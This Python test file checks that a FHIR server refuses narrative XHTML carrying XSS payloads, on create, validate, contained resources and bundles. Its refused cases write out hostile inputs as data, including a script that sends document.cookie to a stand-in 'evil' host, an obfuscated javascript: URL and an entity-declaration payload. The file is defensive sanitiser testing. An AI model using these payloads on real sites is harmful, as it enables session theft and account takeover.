"""Narrative XHTML (R4 txt-1, txt-2) on every write: no script reaches a reader's browser."""

from __future__ import annotations

import httpx
import pytest

from tests.conftest import notebook_entry, notebook_patient

XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

REFUSED = {
    "script element": f"<div {XHTML}><p>Note</p><script>fetch('//evil/'+document.cookie)</script></div>",
    "event attribute": f'<div {XHTML}><img src="x.png" onerror="alert(1)"/>Note</div>',
    "javascript URL": f'<div {XHTML}><a href=" JaVa&#9;script:alert(1)">Note</a></div>',
    "form": f'<div {XHTML}><form action="//evil"><p>Note</p></form></div>',
    "iframe": f'<div {XHTML}><iframe src="//evil"></iframe>Note</div>',
    "style sheet link": f'<div {XHTML}><link rel="stylesheet" href="//evil.css"/>Note</div>',
    "svg (another namespace)": f'<div {XHTML}><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>Note</div>',
    "only whitespace": f"<div {XHTML}>  \n  </div>",
    "not a div": f"<p {XHTML}>Note</p>",
    "no XHTML namespace": "<div>Note</div>",
    "not well-formed": f"<div {XHTML}><p>Note</div>",
    "entity declaration": f'<!DOCTYPE div [<!ENTITY a "aaaaaaaaaa">]><div {XHTML}>&a;&a;</div>',
    "HTML named entity (XML has five)": f"<div {XHTML}>Plaie propre&nbsp;: pansement Hypafix&reg;</div>",
}

ACCEPTED = {
    "paragraph": f"<div {XHTML}><p>Pansement refait, plaie propre.</p></div>",
    "XML and numeric character references": f"<div {XHTML}>Plaie propre&#160;: pansement &#233;tanche &lt;24 h&gt;</div>",
    "table, image, link": (f'<div {XHTML} xml:lang="fr" lang="fr"><table border="1"><tr><td colspan="2" style="color: red">'
                           f'<a href="https://example.org/protocole">protocole</a> <img src="#photo" alt="plaie"/></td></tr></table></div>'),
    "an image alone": f'<div {XHTML}><img src="data:image/png;base64,iVBORw0KGgo=" alt=""/></div>',
}


def with_narrative(div: str) -> dict:
    return notebook_patient(text={"status": "generated", "div": div})


@pytest.mark.parametrize("case", sorted(REFUSED))
async def test_a_narrative_that_breaks_txt_1_or_txt_2_is_refused_on_create_and_by_validate(
        client: httpx.AsyncClient, case: str) -> None:
    created = await client.post("/fhir/Patient", json=with_narrative(REFUSED[case]))
    assert created.status_code == 422, created.text
    assert created.json()["issue"][0]["expression"] == ["Patient.text.div"]
    validated = (await client.post("/fhir/Patient/$validate", json=with_narrative(REFUSED[case]))).json()
    errors = [i["expression"] for i in validated["issue"] if i["severity"] == "error"]
    assert errors and all(e == ["Patient.text.div"] for e in errors)


@pytest.mark.parametrize("case", sorted(ACCEPTED))
async def test_a_narrative_within_the_rules_is_stored_unchanged(client: httpx.AsyncClient, case: str) -> None:
    created = await client.post("/fhir/Patient", json=with_narrative(ACCEPTED[case]))
    assert created.status_code == 201, created.text
    assert created.json()["text"]["div"] == ACCEPTED[case]


async def test_contained_and_bundled_narratives_are_checked_too(client: httpx.AsyncClient) -> None:
    patient = (await client.post("/fhir/Patient", json=notebook_patient())).json()
    entry = notebook_entry(patient["id"])
    entry["contained"] = [{"resourceType": "Practitioner", "id": "nurse", "text": {"status": "generated", "div": REFUSED["script element"]}}]
    entry["sender"] = {"reference": "#nurse"}
    refused = await client.post("/fhir/Communication", json=entry)
    assert refused.status_code == 422 and refused.json()["issue"][0]["expression"] == ["Communication.contained[0].text.div"]
    bundle = {"resourceType": "Bundle", "type": "transaction", "entry": [
        {"resource": with_narrative(REFUSED["event attribute"]), "request": {"method": "POST", "url": "Patient"}}]}
    refused = await client.post("/fhir", json=bundle)
    assert refused.status_code == 422
    assert refused.json()["issue"][0]["expression"] == ["Bundle.entry[0].resource.text.div"]
